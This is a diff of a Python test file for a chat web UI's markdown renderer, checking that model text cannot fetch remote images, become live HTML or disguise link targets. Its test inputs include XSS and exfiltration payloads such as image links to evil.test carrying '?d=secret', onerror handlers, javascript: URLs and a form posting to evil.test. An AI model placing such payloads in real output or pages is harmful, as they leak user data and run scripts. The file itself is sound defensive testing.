@@ -1,90 +1,214 @@
-"""A model's words cannot fetch a picture from elsewhere or become live HTML."""
+"""A model's words cannot fetch a picture from elsewhere, become live HTML, or hide where a link leads."""
 
 from __future__ import annotations
 
+import re
+from html.parser import HTMLParser
+
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from agent.messages import Source
-from webui.markdown import safe_markdown
+from webui.markdown import MOST_FORMATTED_CHARACTERS, markdown_html
+
+TAGS = {
+    *(
+        "p",
+        "strong",
+        "em",
+        "s",
+        "code",
+        "pre",
+        "div",
+        "span",
+        "button",
+        "br",
+        "hr",
+        "a",
+        "ul",
+        "ol",
+        "li",
+        "blockquote",
+    ),
+    *("table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"),
+}
+
+
+class Reader(HTMLParser):
+    """What a browser finds in a piece of HTML: its tags with their attributes, and its words."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.words = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+def a(url: str, text: str = "") -> str:
+    return f'<a href="{url}" target="_blank" rel="noopener noreferrer">{text or url}</a>'
 
 
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
-        ("plain **bold** and `code`", "plain **bold** and `code`"),
-        ("![x](http://evil.test/?d=secret)", "&#91;image: evil.test&#93;"),
-        ("![x](<https://evil.test/a b> 'title')", "&#91;image: evil.test&#93;"),
-        ("![](//evil.test/a.png)", "&#91;image: evil.test&#93;"),
-        (
-            "![logo][ref]\n\n[ref]: https://evil.test/a.png",
-            "&#91;image: evil.test&#93;\n\n[ref]: https://evil.test/a.png",
-        ),
-        ("![ref]\n\n[ref]: https://evil.test/a.png", "&#91;image: evil.test&#93;\n\n[ref]: https://evil.test/a.png"),
-        ("![ref][]", "&#91;image: ref&#93;"),
-        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
-        ("</details><!-- x --><?php", "&lt;/details>&lt;!-- x -->&lt;?php"),
-        ("3 < 4 and 5 > 2", "3 < 4 and 5 > 2"),
-        ("a\u202eb\u200bc\U000e0041", "abc"),
+        ("plain **bold** and `code`", "<p>plain <strong>bold</strong> and <code>code</code></p>"),
+        ("![x](http://evil.test/?d=secret)", "<p>[image: evil.test]</p>"),
+        ("![x](<https://evil.test/a b> 'title')", "<p>[image: evil.test]</p>"),
+        ("![](//evil.test/a.png)", "<p>[image: evil.test]</p>"),
+        ("![logo][ref]", "<p>![logo][ref]</p>"),
+        ("![a[b]c](http://evil.test/x) ![[x](http://evil.test/y)", None),
+        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
+        ("</details><!-- x --><?php", "<p>&lt;/details&gt;&lt;!-- x --&gt;&lt;?php</p>"),
+        ("<form action=//evil.test><input name=key></form>", None),
+        ("3 < 4 and 5 > 2 &amp; more", "<p>3 &lt; 4 and 5 &gt; 2 &amp;amp; more</p>"),
+        ("a\u202eb\u200bc\U000e0041\x00", "<p>abc</p>"),
+        ("one\ntwo", "<p>one<br>two</p>"),
+        ("$5 and 6$", "<p>&#36;5 and 6&#36;</p>"),
     ],
 )
-def test_pictures_become_words_and_tags_are_spelled_out(text: str, shown: str) -> None:
-    assert safe_markdown(text) == shown
+def test_pictures_become_words_and_tags_are_spelled_out(text: str, shown: str | None) -> None:
+    html = markdown_html(text)
+    assert {tag for tag, _ in Reader(html).tags} <= {"p", "a", "strong", "code", "br"}
+    assert shown is None or html == shown
 
 
-def test_code_is_left_as_it_is() -> None:
-    text = "Use `<b>` or:\n\n```html\n<img src=x>\n![a](http://b.test)\n```\n\nand ``a ` <i>``."
-    assert safe_markdown(text) == text
+@pytest.mark.parametrize("fence", ["```", "````", "~~~", "~~~~~"])
+@pytest.mark.parametrize("kind", ["", "mermaid", " mermaid", "html", "math", "svg", "latex", "mermaid {x}", "js\t<b>"])
+def test_a_fenced_block_of_whatever_kind_is_code(fence: str, kind: str) -> None:
+    code = 'graph TD\n\n  A["<input placeholder=key>"] $$x$$ \\[y\\] ![](http://evil.test/x) <form>\n'
+    for text in (
+        f"{fence}{kind}\n{code}{fence}\n",
+        f"{fence}{kind}\n{code}",
+        f"* a\n\n  {fence}{kind}\n  x\n  {fence}",
+    ):
+        read = Reader(markdown_html(text))
+        assert {tag for tag, _ in read.tags} <= {"div", "button", "span", "pre", "code", "ul", "li", "p"}
+    assert Reader(markdown_html(f"{fence}{kind}\n{code}{fence}")).words == code
 
 
-def test_an_open_fence_does_not_let_the_rest_of_the_text_out() -> None:
-    assert safe_markdown("<b>\n```\n<i>") == "&lt;b>\n```\n<i>"
-
-
-def test_a_backtick_without_a_partner_is_no_code() -> None:
-    assert safe_markdown("it`s <b>") == "it`s &lt;b>"
-
-
-def test_nested_picture_brackets_leave_no_picture_behind() -> None:
-    assert "![" not in safe_markdown("![a[b]c](http://evil.test/x) ![[x](http://evil.test/y)")
+@pytest.mark.parametrize(
+    "text", ["$$\n```\n$$ <input> ![](http://evil.test/x)\n```", "`$$` <b> `$$`", "\\[\n\n`\\] <i>`"]
+)
+def test_a_formula_begins_and_ends_in_the_same_words(text: str) -> None:
+    html = markdown_html(text)
+    assert "$$" not in html
+    assert "\\[" not in html
+    assert {tag for tag, _ in Reader(html).tags} <= {"p", "code", "div", "button", "span", "pre", "br"}
 
 
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
-        ("see [the page](https://a.test/b?c=d)", "see the page (<https://a.test/b?c=d>)"),
-        ("see [a](https://a.test 'title') and [b][1]\n\n[1]: https://b.test/x", None),
-        ("[https://a.test](https://a.test)", "[https://a.test](https://a.test)"),
+        ("so $$E = mc^2$$.", "<p>so $$E = mc^2$$.</p>"),
+        ("$$\na < b\n$$", "<p>$$a &lt; b$$</p>"),
+        ("\\(a*b*c\\) and \\[d\\]", "<p>\\(a*b*c\\) and \\[d\\]</p>"),
+        ("\\*no\\* \\$", "<p>*no* &#36;</p>"),
+        ("a \\(b", "<p>a (b</p>"),
+    ],
+)
+def test_formulas_are_left_to_the_page(text: str, shown: str) -> None:
+    assert markdown_html(text) == shown
+
+
+def test_each_block_is_a_line_of_its_own_so_that_what_stands_already_is_not_drawn_anew() -> None:
+    text = "# A\n\nb\nc\n\n1. one\n2. two\n   - inner\n\n> quoted\n\n"
+    text += "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```py\nx\n\ny\n```\n\n---"
+    lines = markdown_html(text).split("\n\n")
+    assert [re.sub(r"<button.*?</button>", "", line) for line in lines] == [
+        "<h1>A</h1>",
+        "<p>b<br>c</p>",
+        "<ol><li>one</li><li>two<ul><li>inner</li></ul></li></ol>",
+        "<blockquote><p>quoted</p></blockquote>",
+        '<table><thead><tr><th>a</th><th align="right">b</th></tr></thead>'
+        '<tbody><tr><td>1</td><td align="right">2</td></tr></tbody></table>',
+        '<div class="code_wrap"><pre><code class="language-py">x&#10;&#10;y&#10;</code></pre></div>',
+        "<hr>",
+    ]
+    assert markdown_html("3. three\n4. four").startswith('<ol start="3">')
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("see [the page](https://a.test/b?c=d)", f"see the page ({a('https://a.test/b?c=d')})"),
+        ("[a [b] **c**](https://a.test 'title')", f"a [b] <strong>c</strong> ({a('https://a.test')})"),
+        ("[https://a.test](https://a.test)", a("https://a.test")),
+        ("[https://a.test](https://evil.test)", f"https://a.test ({a('https://evil.test')})"),
+        ("[](https://a.test)", a("https://a.test")),
+        ("<https://a.test/x>", a("https://a.test/x")),
+        ("https://a.test/x.", f"{a('https://a.test/x')}."),
         ("[mail](mailto:a@b.test)", "mail (mailto:a@b.test)"),
         ("[x](javascript:alert(1))", "x (javascript:alert(1))"),
+        ("[x](/relative)", "x (/relative)"),
+        ("[b][1]\n[1]: https://b.test/x", f"[b][1]<br>[1]: {a('https://b.test/x')}"),
         ("a list: [1, 2] and [ ] todo", "a list: [1, 2] and [ ] todo"),
-        ("`[a](https://a.test)`", "`[a](https://a.test)`"),
+        ("`[a](https://a.test)`", "<code>[a](https://a.test)</code>"),
+        ('[x](https://a.test/"onclick=alert(1))', None),
     ],
 )
 def test_the_whole_address_of_a_link_is_in_sight(text: str, shown: str | None) -> None:
-    if shown is None:
-        found = safe_markdown(text)
-        assert "a (<https://a.test>) and b (<https://b.test/x>)" in found
-    else:
-        assert safe_markdown(text) == shown
+    html = markdown_html(text)
+    assert shown is None or html == f"<p>{shown}</p>"
+    for tag, attributes in Reader(html).tags:
+        if tag == "a":
+            assert attributes.keys() == {"href", "target", "rel"}
+            assert (attributes["href"] or "") in Reader(html).words
 
 
 SOURCES = (Source(title="One", url="https://one.test/"), Source(title="Two", url="https://two.test/a_(b)"))
+ONE, TWO = a("https://one.test/", "¹"), a("https://two.test/a_(b)", "²")
 
 
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
-        ("It opens at 7 [1].", "It opens at 7 [¹](<https://one.test/>)."),
-        ("So it is.[1][2]", "So it is.[¹](<https://one.test/>)\u2009[²](<https://two.test/a_(b)>)"),
-        ("So it is [1, 2]", "So it is [¹](<https://one.test/>)\u2009[²](<https://two.test/a_(b)>)"),
+        ("It opens at 7 [1].", f"It opens at 7 {ONE}."),
+        ("So it is.[1][2]", f"So it is.{ONE}\u2009{TWO}"),
+        ("So it is [1, 2]", f"So it is {ONE}\u2009{TWO}"),
         ("Nobody knows [3]", "Nobody knows [3]"),
-        ("`code[1]` and x[1]", "`code[1]` and x[1]"),
-        ("[1]: https://evil.test", "[1]: https://evil.test"),
+        ("`code[1]` and x[1]", "<code>code[1]</code> and x[1]"),
+        ("[1]: https://evil.test", f"[1]: {a('https://evil.test')}"),
     ],
 )
 def test_a_number_in_brackets_leads_to_its_source(text: str, shown: str) -> None:
-    assert safe_markdown(text, SOURCES) == shown
+    assert markdown_html(text, SOURCES) == f"<p>{shown}</p>"
 
 
 def test_a_source_that_is_no_web_page_is_no_link() -> None:
-    assert safe_markdown("so [1]", [Source(title="x", url="javascript:alert(1)")]) == "so [1]"
+    assert markdown_html("so [1]", [Source(title="x", url="javascript:alert(1)")]) == "<p>so [1]</p>"
+
+
+def test_a_very_long_text_is_shown_as_it_was_written() -> None:
+    text = "**<b>**\n" * MOST_FORMATTED_CHARACTERS
+    html = markdown_html(text)
+    assert html.startswith("<p>**&lt;b&gt;**<br>**")
+    assert Reader(html).words == "**<b>**" * MOST_FORMATTED_CHARACTERS
+
+
+SIGNS = "ab \n`~$\\[](){}<>!|*_#-+1.&%;:/\"'="
+PIECES = [*SIGNS, "```", "$$", "\\[", "http://e.test", "```mermaid\n", "<input>", "![](http://e.test/x)", "[a](b)"]
+
+
+@given(st.text() | st.lists(st.sampled_from(PIECES)).map("".join))
+def test_whatever_is_said_no_other_tag_and_no_hidden_address_comes_of_it(text: str) -> None:
+    read = Reader(markdown_html(text))
+    assert {tag for tag, _ in read.tags} <= TAGS
+    for tag, attributes in read.tags:
+        if tag == "a":
+            assert (attributes["href"] or "") in read.words
+        else:
+            assert attributes.keys() <= {"class", "title", "start", "align"}
+
+
+def test_a_task_has_its_box() -> None:
+    html = markdown_html("- [ ] open\n- [x] **done**\n- [y] none\n- [x](https://a.test)")
+    assert '<li class="task">☐ open</li><li class="task">☑ <strong>done</strong></li><li>[y] none</li>' in html
+    assert html.count('class="task"') == 2
